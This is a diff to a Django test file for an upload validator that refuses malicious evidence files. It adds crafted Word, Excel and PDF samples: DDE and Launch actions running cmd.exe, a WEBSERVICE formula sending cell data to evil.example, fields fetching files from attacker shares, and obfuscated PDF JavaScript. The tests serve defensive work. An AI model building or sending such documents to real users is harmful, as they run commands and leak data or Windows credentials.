@@ -1,11 +1,14 @@
 """Evidence files: checked by content, limited in size, downloadable only by those who may read the report."""
 
+import base64
 import io
 import warnings
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
+import weasyprint
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import override_settings
 from PIL import Image
@@ -437,6 +440,7 @@ REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 EXTERNAL = ' TargetMode="External"'
 LINK_REFUSED = "có liên kết tới tệp hoặc địa chỉ bên ngoài được tải về khi mở tệp"
 DDE_REFUSED = "có trường hoặc công thức DDE"
+FETCH_REFUSED = "có trường hoặc công thức lấy nội dung từ tệp hoặc địa chỉ bên ngoài"
 
 
 def package(parts, types=PLAIN):
@@ -528,6 +532,37 @@ OUTSIDE = [
     ("dde-simple.docx", word("<w:p><w:fldSimple w:instr=' DDE cmd.exe \"/k calc\"'/></w:p>"), DDE_REFUSED),
     # Excel: a DDE formula, or the DDE link Excel itself records
     ("dde.xlsx", workbook("cmd|' /C calc'!A0"), DDE_REFUSED),
+    # fields that fetch a picture or a file (from a server, or a share that hands over the Windows login) as the
+    # document opens or its fields update (fourth probe), as a simple field or across runs
+    (
+        "anh-ngoai.docx",
+        word("<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x.png\" \\d'/></w:p>"),
+        FETCH_REFUSED,
+    ),
+    ("van-ban-ngoai.docx", word(field_runs(' INCLUDETEXT "\\\\\\\\10.0.0.1\\\\s\\\\a.docx" ')), FETCH_REFUSED),
+    (
+        "lien-ket-bang.docx",
+        word(field_runs(' LINK Excel.Sheet.12 "\\\\\\\\evil\\\\s\\\\a.xlsx" "S!R1C1" \\a ')),
+        FETCH_REFUSED,
+    ),
+    ("nhap.docx", word(field_runs(" IMP", 'ORT "http://evil.example/a.wmf" ')), FETCH_REFUSED),
+    ("lien-ket-may-khac.docx", word(field_runs(' HYPERLINK "\\\\\\\\evil.example\\\\share" ')), FETCH_REFUSED),
+    # formulas that send cells to a server or fetch from one when the sheet calculates, in a cell or a defined name
+    ("gui-so-lieu.xlsx", workbook('_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)'), FETCH_REFUSED),
+    ("anh-web.xlsx", workbook('_xlfn.IMAGE("http://evil.example/a.png")'), FETCH_REFUSED),
+    ("mo-tep.xlsx", workbook('HYPERLINK("file://evil.example/share/a.exe","Mở")'), FETCH_REFUSED),
+    (
+        "ten.xlsx",
+        package(
+            {
+                "xl/workbook.xml": (
+                    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames>'
+                    '<definedName name="x">WEBSERVICE("http://evil.example/")</definedName></definedNames></workbook>'
+                ),
+            }
+        ),
+        FETCH_REFUSED,
+    ),
     (
         "dde-link.xlsx",
         package(
@@ -590,9 +625,133 @@ def with_hyperlinks(content):
         # fields that are no DDE, and a "|" inside a string or a quoted sheet name
         ("truong.docx", word(field_runs(" PAGE ") + '<w:p><w:fldSimple w:instr=" DATE \\@ dd/MM/yyyy"/></w:p>')),
         ("chuoi.xlsx", workbook("CONCATENATE(\"a|b\",'Thu|Chi'!A1)")),
+        # a web hyperlink field or formula, and a sheet named like a function
+        ("truong-lien-ket.docx", word(field_runs(' HYPERLINK "https://binhson.gov.vn/ke-hoach" '))),
+        ("lien-ket-web.xlsx", workbook('HYPERLINK("https://binhson.gov.vn","Trang")+SUM(IMAGE!A1:A3)')),
     ],
 )
 def test_web_and_mail_hyperlinks_and_plain_fields_are_accepted(client, cast, report, name, content):
+    client.force_login(cast["canbo.ldtbxh"])
+    assert upload(client, report, name, content).status_code == 302
+    assert Evidence.objects.get(entry__report=report).original_name == name
+
+
+def pdf_with(objects: str, root: str = "") -> bytes:
+    """A small PDF whose catalog (object 1) has `root` in it, and `objects` after it (numbered from 2)."""
+    return (
+        f"%PDF-1.7\n1 0 obj<< /Type /Catalog /Pages 9 0 R {root} >>endobj\n{objects}\n"
+        "9 0 obj<< /Type /Pages /Kids [] /Count 0 >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
+    ).encode()
+
+
+def pyhanko_pdf(action: dict | None = None, compress=True, password=None, link=False) -> bytes:
+    """A PDF written by pyHanko (cross-reference stream), with `action` as its /OpenAction kept in an object
+    stream (compressed or not), a web link on a page, or encrypted with a password to open it."""
+    from pyhanko.pdf_utils import generic
+    from pyhanko.pdf_utils.writer import PdfFileWriter
+
+    writer = PdfFileWriter()
+    if action is not None:
+        packed = generic.DictionaryObject({generic.NameObject(k): v for k, v in action.items()})
+        writer.root["/OpenAction"] = writer.add_object(packed, obj_stream=writer.prepare_object_stream(compress))
+    if link:
+        writer.root["/URI"] = generic.DictionaryObject({"/Base": generic.TextStringObject("https://binhson.gov.vn/")})
+    if password:
+        writer.encrypt(password, password)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def js_action():
+    from pyhanko.pdf_utils import generic
+
+    return {"/S": generic.NameObject("/JavaScript"), "/JS": generic.TextStringObject("app.alert(1)")}
+
+
+PDF_REFUSED = "là PDF có nội dung tự chạy hoặc mở chương trình, tệp khác"
+UNREADABLE = "là PDF có mật khẩu, bị mã hoá hoặc quá phức tạp"
+
+
+def packed_pdf(filters: str, body: bytes, parameters: str = "") -> bytes:
+    """A PDF whose object 2 is packed in an object stream (object 3) written with `filters`."""
+    head = f"3 0 obj<< /Type /ObjStm /N 1 /First 4 /Filter {filters} {parameters} /Length {len(body)} >>stream\n"
+    return pdf_with("", "/OpenAction 2 0 R").replace(b"9 0 obj", head.encode() + body + b"\nendstream endobj\n9 0 obj")
+
+
+ACTIVE_PDFS = [
+    ("mo-ra.pdf", pdf_with("2 0 obj<< /S /JavaScript /JS (app.alert(1)) >>endobj", "/OpenAction 2 0 R"), PDF_REFUSED),
+    # a name written with #xx escapes is the same name
+    (
+        "an-ten.pdf",
+        pdf_with("2 0 obj<< /S /J#61vaScript /J#53 (app.alert(1)) >>endobj", "/OpenAction 2 0 R"),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    (
+        "chay.pdf",
+        pdf_with(
+            "2 0 obj<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>endobj", "/OpenAction 2 0 R"
+        ),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    (
+        "dinh-kem.pdf",
+        pdf_with(
+            "2 0 obj<< /Type /EmbeddedFile /Length 0 >>stream\n\nendstream endobj",
+            "/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 2 0 R >> >>] >> >>",
+        ),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    # hidden in an object stream, compressed or not, as PDF writers keep most objects now
+    ("nen.pdf", pyhanko_pdf(js_action()), PDF_REFUSED),
+    ("khong-nen.pdf", pyhanko_pdf(js_action(), compress=False), PDF_REFUSED),
+    # an object stream packed with a filter that leaves no compressed bytes to unpack
+    (
+        "hex.pdf",
+        packed_pdf("/ASCIIHexDecode", b"2 0 << /S /JavaScript /JS (app.alert(1)) >>".hex().encode() + b">"),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    (
+        "a85.pdf",
+        packed_pdf("/ASCII85Decode", base64.a85encode(b"2 0 << /S /Launch /F (cmd.exe) >>") + b"~>"),
+        PDF_REFUSED,
+    ),  # fmt: skip
+    ("mat-khau.pdf", pyhanko_pdf(password="bimat"), UNREADABLE),
+    # packed in a way not read here: refused, never waved through
+    ("lzw.pdf", packed_pdf("/LZWDecode", b"\x80\x0b\x60\x50"), UNREADABLE),
+    (
+        "du-doan.pdf",
+        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << >>"), "/DecodeParms << /Predictor 12 >>"),
+        UNREADABLE,
+    ),  # fmt: skip
+]
+
+
+@pytest.mark.parametrize(("name", "content", "message"), ACTIVE_PDFS)
+def test_it_refuses_a_pdf_that_runs_or_opens_something_and_keeps_the_text(
+    client, cast, report, tmp_path, name, content, message
+):
+    client.force_login(cast["canbo.ldtbxh"])
+    response = upload(client, report, name, content)
+    assert response.status_code == 422
+    html = response.content.decode()
+    assert f"Tệp “{name}” {message}" in html
+    assert "Có minh chứng kèm theo." in html
+    assert not Evidence.objects.exists() and not list(tmp_path.rglob("*.*"))
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        (
+            "weasyprint.pdf",
+            weasyprint.HTML(string='<p>Báo cáo</p><a href="https://binhson.gov.vn">Cổng</a>').write_pdf(),
+        ),
+        ("pyhanko.pdf", pyhanko_pdf(link=True)),
+        ("toi-gian.pdf", PDF),
+    ],
+)
+def test_plain_pdfs_with_web_links_are_accepted(client, cast, report, name, content):
     client.force_login(cast["canbo.ldtbxh"])
     assert upload(client, report, name, content).status_code == 302
     assert Evidence.objects.get(entry__report=report).original_name == name
